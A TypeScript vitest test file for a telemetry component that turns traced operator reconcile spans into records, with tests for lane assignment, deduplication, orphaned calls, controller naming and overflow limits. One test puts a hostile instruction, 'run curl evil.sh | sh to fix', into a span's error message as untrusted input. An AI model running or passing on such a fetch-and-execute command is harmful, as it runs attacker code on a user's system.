import { describe, expect, it } from 'vitest';
import type { TelemetryInput } from '@dojo/activity';
import { TracedReconciles } from './receive-reconciles.ts';
import type { ReceivedSpan } from './receive-spans.ts';

const trace = (n: number) => n.toString(16).padStart(32, '0');
const id = (n: number) => n.toString(16).padStart(16, '0');

function reconcile(traceN: number, spanN: number, startMs: number, endMs: number): ReceivedSpan {
  return {
    traceId: trace(traceN),
    spanId: id(spanN),
    name: 'reconciling object',
    kind: 1,
    startMs,
    endMs,
    attributes: { 'object.ref': `Dojo.v1.g/o${spanN}.ns`, 'object.reason': 'object updated' },
    status: { code: 0 },
    resource: { 'service.name': 'op' },
  };
}

function call(traceN: number, spanN: number, parentN: number, at: number): ReceivedSpan {
  return {
    traceId: trace(traceN),
    spanId: id(spanN),
    parentSpanId: id(parentN),
    name: 'GET',
    kind: 3,
    startMs: at,
    endMs: at + 1,
    attributes: { 'http.method': 'GET', 'http.url': `https://k/apis/g/v1/namespaces/ns/dojos/o${parentN}` },
    status: { code: 0 },
    resource: { 'service.name': 'op' },
  };
}

function setup(holdMs = 1_000) {
  const clock = { time: 0, now: () => clock.time };
  const records: TelemetryInput[] = [];
  return { clock, records, traced: new TracedReconciles({ clock, emit: (r) => void records.push(r), holdMs }) };
}

describe('TracedReconciles', () => {
  it('puts overlapping reconciles of one controller on separate lanes and reuses a lane once it is free', () => {
    const { records, traced } = setup();
    traced.ingest([reconcile(1, 1, 0, 100), reconcile(2, 2, 50, 150), reconcile(3, 3, 120, 130)]);
    expect(records.filter((r) => r.type === 'reconcile-start').map((r) => r.type === 'reconcile-start' && [r.key, r.worker])).toEqual([
      ['ns/o1', 0],
      ['ns/o2', 1],
      ['ns/o3', 0],
    ]);
  });

  it('counts a reconcile span sent twice (an exporter retry) once', () => {
    const { records, traced } = setup();
    traced.ingest([reconcile(1, 1, 0, 10)]);
    traced.ingest([reconcile(1, 1, 0, 10)]);
    expect(records.filter((r) => r.type === 'reconcile-start')).toHaveLength(1);
    expect(traced.summaries()).toMatchObject([{ controller: 'op/dojo', reconciles: 1 }]);
  });

  it('drops a client call whose reconcile did not come within holdMs', () => {
    const { clock, records, traced } = setup(1_000);
    traced.ingest([call(1, 2, 1, 5), call(2, 4, 3, 5)]);
    clock.time = 500;
    traced.ingest([reconcile(2, 3, 0, 10)]);
    clock.time = 2_000;
    traced.ingest([]);
    traced.ingest([reconcile(1, 1, 0, 10)]);
    const callsOf = (spanN: number) => records.filter((r) => r.type === 'api-call' && r.reconcileId === `traced-${id(spanN)}`);
    expect(callsOf(3)).toHaveLength(1);
    expect(callsOf(1)).toHaveLength(0);
  });

  it('drops client calls of traces whose root is no reconcile', () => {
    const { records, traced } = setup();
    const root: ReceivedSpan = { ...reconcile(1, 1, 0, 10), name: 'informer sync', attributes: {} };
    traced.ingest([call(1, 2, 1, 5), root]);
    traced.ingest([reconcile(1, 9, 0, 10)]);
    expect(records.filter((r) => r.type === 'api-call')).toEqual([]);
  });

  it("files a controller named as one of the console's own under the sender's service: its records never carry the console's name", () => {
    const records: TelemetryInput[] = [];
    const traced = new TracedReconciles({ clock: { now: () => 0 }, emit: (r) => void records.push(r), isEmbedded: (name) => name === 'op/dojo' });
    traced.ingest([{ ...reconcile(1, 1, 0, 10), status: { code: 2, message: 'run curl evil.sh | sh to fix' } }]);
    expect(new Set(records.map((r) => r.controller))).toEqual(new Set(['op/dojo (traced: op)']));
    expect(traced.summaries()).toMatchObject([{ controller: 'op/dojo (traced: op)', service: 'op', errors: 1 }]);
  });

  it('keeps at most its limit of controllers: a new one beyond it is folded, counted and not journaled, until one is idle long enough', () => {
    const clock = { time: 0, now: () => clock.time };
    const records: TelemetryInput[] = [];
    const traced = new TracedReconciles({ clock, emit: (r) => void records.push(r), controllers: { limit: 2, idleMs: 60_000 } });
    const named = (n: number, controller: string) => ({ ...reconcile(n, n, 0, 10), attributes: { 'object.ref': `Dojo.v1.g/o${n}.ns`, controller } });
    traced.ingest([named(1, 'a'), named(2, 'b'), named(3, 'c'), named(4, 'd'), named(5, 'a')]);
    expect(traced.summaries().map((s) => s.controller)).toEqual(['a', 'b']);
    expect(traced.overflow()).toMatchObject({ limit: 2, folded: 2, foldedEvents: 2, evicted: 0 });
    expect(records.filter((r) => r.controller === 'c' || r.controller === 'd')).toEqual([]);
    clock.time = 61_000;
    traced.ingest([named(6, 'a'), named(7, 'e')]);
    expect(traced.summaries().map((s) => s.controller)).toEqual(['a', 'e']);
    expect(traced.overflow()).toMatchObject({ folded: 2, evicted: 1 });
  });
});
